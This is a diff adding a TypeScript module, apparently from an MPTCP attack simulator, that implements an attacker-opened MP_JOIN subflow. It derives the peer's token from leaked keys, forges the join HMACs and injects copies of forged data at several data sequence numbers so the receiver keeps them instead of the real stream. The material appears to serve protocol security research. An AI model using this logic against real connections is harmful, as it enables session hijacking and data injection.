@@ -1,0 +1,149 @@
+/**
+ * A subflow the attacker opens itself, from its own address, into a
+ * connection whose keys it read (RFC 7430 §5, RFC 6181 §6.2): SYN+MP_JOIN
+ * with the peer's token, the third ACK's HMAC computed from both keys and
+ * both nonces, then data segments mapped from the data sequence number the
+ * peer's fourth ACK says it expects next: by the time they arrive the real
+ * stream has moved on, so it sprays copies further ahead, and the peer
+ * keeps whichever copy reaches a data sequence number first (RFC 8684
+ * §3.3.1 leaves duplicates to the receiver). Every check is the peer's.
+ *
+ * The SYN/ACK's truncated HMAC also tells whether the peer binds join
+ * HMACs to addresses (the address-bound-join-hmac what-if): the attacker
+ * checks both forms and answers in the one that matched, with its own,
+ * real address.
+ */
+import { hex32, hex64 } from '../core/hex.ts';
+import { deriveFromKey, joinAckHmac, joinSynAckHmac, type JoinAddresses, type MptcpVersion } from '../crypto/mptcp-crypto.ts';
+import { dssChecksum } from '../wire/dss-checksum.ts';
+import { formatEndpoint, type IpAddress } from '../wire/ip-address.ts';
+import { TCP_FLAG } from '../wire/tcp-header.ts';
+import type { TcpOption } from '../wire/tcp-options.ts';
+import { craftSegment } from './craft.ts';
+import type { Endpoint } from './relay.ts';
+import type { AttackContext, ObservedPacket } from './strategy.ts';
+
+export interface JoinTarget {
+  /** The connection's end it joins (the server, as a client's subflow would). */
+  peer: Endpoint;
+  version: MptcpVersion;
+  /** The key of the side it impersonates, and the peer's. */
+  ownKey: bigint;
+  peerKey: bigint;
+  /** The connection uses DSS checksums. */
+  checksums: boolean;
+}
+
+type Phase = 'idle' | 'syn-sent' | 'established' | 'done';
+
+/** Copies of the forged data it sends, and how far apart in the data sequence space. */
+const COPIES = 8;
+const STRIDE = 16_384;
+
+export class OwnJoin {
+  private phase: Phase = 'idle';
+  private readonly isn: number;
+  private readonly port: number;
+  private readonly nonce: number;
+  private peerIsn = 0;
+  private peerNonce = 0;
+  private bound: JoinAddresses | undefined;
+
+  constructor(
+    ctx: AttackContext,
+    private readonly own: IpAddress,
+    private readonly target: JoinTarget,
+    /** The bytes it puts into the connection once joined. */
+    private readonly payload: Uint8Array,
+  ) {
+    this.isn = ctx.rng.u32();
+    this.port = 32768 + ctx.rng.below(28232);
+    this.nonce = ctx.rng.u32();
+  }
+
+  get joined(): boolean {
+    return this.phase === 'established' || this.phase === 'done';
+  }
+
+  open(ctx: AttackContext): void {
+    const t = this.target;
+    const token = deriveFromKey(t.version, t.peerKey).token;
+    const options: TcpOption[] = [{ kind: 'mss', mss: 1460 }, { kind: 'mp-join-syn', backup: false, addressId: 7, token, nonce: this.nonce, reserved: 0 }];
+    this.phase = 'syn-sent';
+    this.send(ctx, this.isn, 0, TCP_FLAG.SYN, options, `SYN+MP_JOIN to ${formatEndpoint(t.peer.addr, t.peer.port)} with the token ${hex32(token)} it derived from the key it read`);
+  }
+
+  /** A packet to its own address; false when it is not for this subflow. */
+  receive(ctx: AttackContext, p: ObservedPacket): boolean {
+    const h = p.decoded.tcp!.header;
+    if (h.dstPort !== this.port || h.srcPort !== this.target.peer.port) return false;
+    if (this.phase === 'syn-sent' && h.flags & TCP_FLAG.SYN && h.flags & TCP_FLAG.ACK) {
+      const sa = h.options.find((o) => o.kind === 'mp-join-syn-ack');
+      if (!sa) {
+        ctx.act('attacker-join-refused', `the SYN/ACK carries no MP_JOIN: the peer refused the join`, [p.id]);
+        this.phase = 'done';
+        return true;
+      }
+      this.peerIsn = h.seq;
+      this.peerNonce = sa.nonce;
+      const t = this.target;
+      const bound: JoinAddresses = { initiator: this.own, responder: t.peer.addr };
+      const plain = joinSynAckHmac(t.version, t.peerKey, t.ownKey, sa.nonce, this.nonce);
+      this.bound = plain === sa.truncatedHmac ? undefined : joinSynAckHmac(t.version, t.peerKey, t.ownKey, sa.nonce, this.nonce, bound) === sa.truncatedHmac ? bound : undefined;
+      const hmac = joinAckHmac(t.version, t.ownKey, t.peerKey, this.nonce, this.peerNonce, this.bound);
+      this.phase = 'established';
+      this.send(ctx, this.isn + 1, this.peerIsn + 1, TCP_FLAG.ACK, [{ kind: 'mp-join-ack', hmac, reserved: 0 }], `third ACK with the join HMAC it computed from both keys and nonces${this.bound ? ' (bound to the addresses, as the SYN/ACK showed)' : ''}`);
+      return true;
+    }
+    if (this.phase === 'established' && !(h.flags & TCP_FLAG.SYN)) {
+      const dss = h.options.find((o) => o.kind === 'dss');
+      if (!dss || dss.dataAck === undefined) return true;
+      // The fourth ACK: its DATA_ACK is the next data sequence number the peer expects.
+      this.phase = 'done';
+      const acked = dss.dataAck64 ? dss.dataAck : this.expand(ctx, dss.dataAck);
+      const { base, step, chunk } = this.grid(ctx, acked);
+      // Each copy fills a whole chunk of the real stream, so the receiver keeps it rather than the real one.
+      const payload = chunk > 0 ? Uint8Array.from({ length: chunk }, (_, k) => this.payload[k % this.payload.length]!) : this.payload;
+      const len = payload.length;
+      for (let i = 0; i < COPIES; i++) {
+        const dsn = base + BigInt(i) * step;
+        const ssn = 1 + i * len;
+        const mapping = { dsn, ssn, dataLength: len, ...(this.target.checksums ? { checksum: dssChecksum(dsn, ssn, len, payload) } : {}) };
+        const why = i === 0 ? `${len} bytes mapped at DSN ${dsn}, ${dsn === acked ? 'the DATA_ACK of the fourth ACK' : 'where a chunk of the real stream will start'}` : `the same ${len} bytes ${Number(dsn - base)} bytes further on (DSN ${dsn})`;
+        this.send(ctx, this.isn + 1 + i * len, this.peerIsn + 1, TCP_FLAG.ACK | TCP_FLAG.PSH, [{ kind: 'dss', dataFin: false, dataAck64: false, dsn64: true, reserved: 0, mapping }], why, payload);
+      }
+      return true;
+    }
+    return true;
+  }
+
+  /**
+   * Where its copies go: on the grid of the real sender's chunks (the DSN
+   * after the last mapping it saw, plus whole chunks), from the DATA_ACK on,
+   * so a copy waiting out of order is exactly the next data when the stream
+   * reaches it. Without a grid, at the DATA_ACK and every STRIDE bytes.
+   */
+  private grid(ctx: AttackContext, acked: bigint): { base: bigint; step: bigint; chunk: number } {
+    for (const f of ctx.knowledge.flows.values()) {
+      if (f.nextDsn === null || f.mappingLength === 0 || f.dst.family !== this.target.peer.addr.family) continue;
+      if (formatEndpoint(f.dst, f.dstPort) !== formatEndpoint(this.target.peer.addr, this.target.peer.port)) continue;
+      const chunk = BigInt(f.mappingLength);
+      const ahead = acked > f.nextDsn ? (acked - f.nextDsn + chunk - 1n) / chunk : 0n;
+      return { base: f.nextDsn + ahead * chunk, step: chunk * BigInt(Math.max(1, Math.round(STRIDE / f.mappingLength))), chunk: f.mappingLength };
+    }
+    return { base: acked, step: BigInt(STRIDE), chunk: 0 };
+  }
+
+  /** A 32-bit DATA_ACK, completed with the high bits of the DSNs it saw. */
+  private expand(ctx: AttackContext, ack32: bigint): bigint {
+    let high = 0n;
+    for (const f of ctx.knowledge.flows.values()) if (f.nextDsn !== null) high = f.nextDsn & ~0xffffffffn;
+    return high | (ack32 & 0xffffffffn);
+  }
+
+  private send(ctx: AttackContext, seq: number, ack: number, flags: number, options: TcpOption[], why: string, payload?: Uint8Array): void {
+    const t = this.target;
+    const bytes = craftSegment({ src: this.own, dst: t.peer.addr, srcPort: this.port, dstPort: t.peer.port, seq, ack, flags, window: 1024, options, ...(payload ? { payload } : {}) });
+    ctx.inject(bytes, `${why} (key ${hex64(t.ownKey)} impersonated)`, { fromHome: true });
+  }
+}
